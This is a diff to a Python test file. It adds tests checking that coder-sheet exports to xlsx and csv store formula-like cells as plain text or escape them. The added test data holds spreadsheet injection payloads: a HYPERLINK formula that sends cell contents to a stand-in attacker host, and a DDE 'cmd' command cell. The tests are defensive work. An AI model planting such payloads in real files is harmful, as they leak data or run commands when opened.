@@ -16,16 +16,19 @@ from analysis.text.segment import split_article
 from analysis.validation.scoring import (
     ERROR_COLUMNS,
     RULE_OVERLAP_ONLY,
+    match_spans,
+    restrict_to_gold,
+    score_attributions,
+    score_stance,
+)
+from analysis.validation.sheets import (
     SheetError,
     agreement_table,
     attribution_units,
     disagreements,
+    excel_safe,
     export_coder_sheet,
-    match_spans,
     read_coder_sheet,
-    restrict_to_gold,
-    score_attributions,
-    score_stance,
     sentence_units,
 )
 
@@ -290,6 +293,58 @@ def test_xlsx_sheet_layout_and_round_trip(tmp_path):
     assert sheet.loc[1, "stance_us"] == "negative"
     assert sheet["stance_us"].notna().sum() == 1
     assert sheet["text"].tolist() == units["text"].tolist()
+
+
+# Constructed hostile cells (not corpus text): each would be a live formula in a spreadsheet.
+HOSTILE = [
+    '=HYPERLINK("http://attacker.invalid/?"&A1,"انقر هنا")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tقال لافروف",
+    "'= already marked",
+    "  قال لافروف إن موسكو سترد  ",
+]
+
+
+def _hostile_units() -> pd.DataFrame:
+    return pd.DataFrame({
+        "unit_id": [f"u{i}" for i in range(len(HOSTILE))],
+        "article_id": [f"=a{i}" for i in range(len(HOSTILE))],
+        "part": "body", "start": range(len(HOSTILE)), "end": range(1, len(HOSTILE) + 1),
+        "text": HOSTILE,
+    })
+
+
+def test_xlsx_sheet_stores_text_cells_never_formulas(tmp_path):
+    units = _hostile_units()
+    path = export_coder_sheet(units, tmp_path / "coder.xlsx", VARIABLES, coder="c")
+    ws = load_workbook(path)["units"]
+    header = [c.value for c in ws[1]]
+    cells = [ws.cell(row=r, column=header.index("text") + 1) for r in range(2, len(HOSTILE) + 2)]
+    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
+    assert [c.value for c in cells] == HOSTILE
+    sheet = read_coder_sheet(path)
+    assert sheet["text"].tolist() == HOSTILE
+    assert sheet["article_id"].tolist() == units["article_id"].tolist()
+
+
+def test_csv_sheet_neutralises_formulas_and_round_trips(tmp_path):
+    units = _hostile_units()
+    path = export_coder_sheet(units, tmp_path / "coder.csv", VARIABLES, coder="c")
+    raw = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
+    assert raw["text"].tolist()[:6] == ["'" + v for v in HOSTILE[:6]]
+    assert raw["text"].tolist()[6] == HOSTILE[6]
+    assert not raw.map(lambda v: v.startswith(("=", "+", "-", "@", "\t"))).any().any()
+    sheet = read_coder_sheet(path)
+    assert sheet["text"].tolist() == HOSTILE
+    assert sheet["article_id"].tolist() == units["article_id"].tolist()
+
+
+def test_excel_safe_leaves_ordinary_text_alone():
+    assert excel_safe("قال لافروف") == "قال لافروف"
+    assert excel_safe("2018-03-15") == "2018-03-15"
+    assert excel_safe("-") == "'-"
 
 
 def test_read_coder_sheet_lists_every_problem(tmp_path):
